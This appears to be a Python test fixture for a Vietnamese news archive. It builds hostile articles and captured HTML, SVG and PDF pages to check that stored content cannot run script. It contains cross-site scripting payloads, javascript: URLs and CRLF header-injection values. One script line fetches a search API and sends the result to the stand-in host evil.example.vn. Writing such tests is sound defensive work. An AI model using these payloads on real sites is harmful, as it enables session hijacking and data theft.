"""Articles and captured pages that try to run script in the archive's pages."""

from __future__ import annotations

from tests.functional.web.archive import SAI_DONG, Page
from wardarchive.model import Article, Attachment, Block, Mention, NamedOfficial, Reading, Statement

SCRIPT = "<script>window.hostile=1</script>"
BREAKOUT = "\"'><img src=x onerror=window.hostile=1>{{7*7}}${7*7}<svg/onload=window.hostile=1>"
EVIL = "http://evil.example.vn/"

PAGE = f"""<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={EVIL}refreshed">
<meta http-equiv="set-cookie" content="stolen=1">
<base href="{EVIL}" target="_top">
<link rel="stylesheet" href="/static/style.css"><link rel="prefetch" href="{EVIL}prefetched">
<style>@import url("{EVIL}style.css"); body {{ background: url("{EVIL}background.png") }}</style>
<title>Trang độc hại</title></head>
<body onload="top.location='{EVIL}onload'">
<h1>Trang được chụp</h1>
<script>
  window.parent.hostile = 1; top.hostile = 1; document.cookie = "stolen=1";
  fetch("/api/v1/search").then(r => r.text()).then(t => new Image().src = "{EVIL}?" + t);
  top.location = "{EVIL}script"; window.open("{EVIL}popup");
</script>
<img src="/api/v1/search" onerror="top.location='{EVIL}onerror'"><img src="{EVIL}pixel.png">
<iframe src="/"></iframe><iframe srcdoc="<script>top.location='{EVIL}srcdoc'</script>"></iframe>
<object data="/api/v1/search"></object><embed src="{EVIL}embed.swf">
<form id="f" action="{EVIL}form" target="_top"><button id="send">Gửi</button></form>
<a id="top" href="{EVIL}top" target="_top">top</a>
<a id="self" href="{EVIL}self" target="_self">self</a>
<a id="blank" href="{EVIL}blank" target="_blank">blank</a>
<a id="js" href="javascript:top.location='{EVIL}js'" target="_self">js</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="top.location='{EVIL}svg'">
<script>top.hostile=1</script></svg>
</body></html>"""

PICTURE = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200"
height="200" onload="top.location='{EVIL}svg-onload'"><script>top.hostile = 1; document.cookie = "stolen=1";
top.location = "{EVIL}svg-script"</script><a xlink:href="{EVIL}svg-link" target="_top"><rect width="200"
height="200" fill="red"/></a><image href="{EVIL}svg-image.png"/></svg>"""


def hostile_pages() -> list[Page]:
    """An article whose every field is script, one captured as SVG, one as PDF, one without capture type."""
    name = f"Lê{SCRIPT}"
    text = f"{name} nói {BREAKOUT} rác"
    article = Article(
        url="http://a.example.vn/?x=" + SCRIPT + BREAKOUT,
        title=f"rác {SCRIPT}{BREAKOUT}",
        body=(Block("paragraph", text), Block("caption", SCRIPT), Block("table", BREAKOUT)),
        section=f"mục {SCRIPT}{BREAKOUT}",
        views=1,
        author=f"tác giả {BREAKOUT}",
        images=("javascript:window.hostile=1", "data:text/html,x", "http://a.example.vn/a.jpg"),
        attachments=(
            Attachment("javascript:window.hostile=1", SCRIPT),
            Attachment(" jAvAsCrIpT:window.hostile=1", BREAKOUT),
        ),
        tags=(SCRIPT,),
        family=f"x{SCRIPT}",
        markers=(BREAKOUT,),
    )
    reading = Reading(
        (NamedOfficial(name, BREAKOUT, (Mention(0, 0, len(name), name, BREAKOUT),)),),
        (Statement(name, SCRIPT, "direct", "named", text, 0, 0, len(text)),),
    )
    return [
        Page(article, SAI_DONG, reading, "text/html; charset=utf-8", PAGE.encode()),
        Page(
            Article("javascript:window.hostile=1//a", "rác, bài có địa chỉ độc hại", ()),
            None,
            content_type="image/svg+xml",
            body=PICTURE.encode(),
        ),
        Page(
            Article("http://a.example.vn/tep.pdf", "rác, một tệp", ()),
            None,
            content_type="application/pdf\r\nSet-Cookie: stolen=1",
            body=b"%PDF-1.4",
        ),
        Page(
            Article("http://a.example.vn/x", "rác, không rõ kiểu", ()),
            None,
            content_type='text/html; charset="utf-8\r\nX-Evil: 1"',
            body=PAGE.encode(),
        ),
    ]
